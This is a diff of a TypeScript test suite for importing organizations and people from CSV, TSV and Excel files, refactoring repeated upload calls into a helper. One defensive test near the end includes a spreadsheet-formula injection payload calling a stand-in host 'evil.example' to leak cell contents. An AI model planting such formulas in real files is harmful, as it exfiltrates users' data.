@@ -47,6 +47,9 @@ describe('import of a book from CSV or Excel', () => {
     for (const [name, value] of Object.entries(fields)) call = call.field(name, value);
     return call.attach('file', body, fileName);
   };
+  /** Uploads a file of test/fixtures/import under its own name. */
+  const uploadFixture = (kind: string, name: string, fields?: Record<string, string>) =>
+    upload(kind, fixture(name), name, fields);
   /** POST …/check: its own answer (the check is started, or refused at once). */
   const check = (id: string, body: Record<string, unknown>) =>
     t.http.post(`/api/import/${id}/check`).set('Authorization', staff.auth).send(body);
@@ -157,11 +160,7 @@ describe('import of a book from CSV or Excel', () => {
     let id: string;
 
     it('upload answers the columns, the mapping guessed from the headers and a preview', async () => {
-      const res = await upload(
-        'organizations',
-        fixture('organizations-utf8.csv'),
-        'organizations-utf8.csv',
-      );
+      const res = await uploadFixture('organizations', 'organizations-utf8.csv');
       expect(res.status).toBe(200);
       id = res.body.data._id;
       expect(res.body.data).toMatchObject({
@@ -335,11 +334,7 @@ describe('import of a book from CSV or Excel', () => {
         .set('Authorization', staff.auth)
         .send({ firstName: 'Aoife', lastName: 'Ní Bhriain', phone: '+353 1 555 0101' });
       expect(existing.status).toBe(200);
-      const res = await upload(
-        'people',
-        fixture('people-windows-1252.csv'),
-        'people-windows-1252.csv',
-      );
+      const res = await uploadFixture('people', 'people-windows-1252.csv');
       expect(res.status).toBe(200);
       expect(res.body.data).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
       expect(res.body.data.preview[0].person).toMatchObject({
@@ -400,25 +395,16 @@ describe('import of a book from CSV or Excel', () => {
   describe('organizations from XLSX', () => {
     it('reads the chosen sheet, Excel dates and numbers as such, formulas as text', async () => {
       // The first sheet is a note: the upload reads the first sheet that fits, and offers both.
-      const first = await upload(
-        'organizations',
-        fixture('companies-dates.xlsx'),
-        'companies-dates.xlsx',
-      );
+      const first = await uploadFixture('organizations', 'companies-dates.xlsx');
       expect(first.status).toBe(200);
       expect(first.body.data).toMatchObject({
         sheets: ['Read me', 'Companies'],
         sheet: 'Companies',
       });
 
-      const res = await upload(
-        'organizations',
-        fixture('companies-dates.xlsx'),
-        'companies-dates.xlsx',
-        {
-          sheet: 'Companies',
-        },
-      );
+      const res = await uploadFixture('organizations', 'companies-dates.xlsx', {
+        sheet: 'Companies',
+      });
       expect(res.status).toBe(200);
       expect(res.body.data).toMatchObject({
         format: 'xlsx',
@@ -461,7 +447,7 @@ describe('import of a book from CSV or Excel', () => {
 
   describe('a combined file, one row per person in a company', () => {
     it('creates each company and person once and links them with their roles and percentages', async () => {
-      const res = await upload('combined', fixture('combined-utf8.tsv'), 'combined-utf8.tsv');
+      const res = await uploadFixture('combined', 'combined-utf8.tsv');
       expect(res.status).toBe(200);
       expect(res.body.data.delimiter).toBe('\t');
       expect(res.body.data.mapping).toEqual({
@@ -634,7 +620,7 @@ describe('import of a book from CSV or Excel', () => {
     });
 
     it('formula cells are kept as text, never evaluated', async () => {
-      const res = await upload('organizations', fixture('formula.csv'), 'formula.csv');
+      const res = await uploadFixture('organizations', 'formula.csv');
       expect(res.status).toBe(200);
       expect(res.body.data.preview[0].organization).toMatchObject({
         name: '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
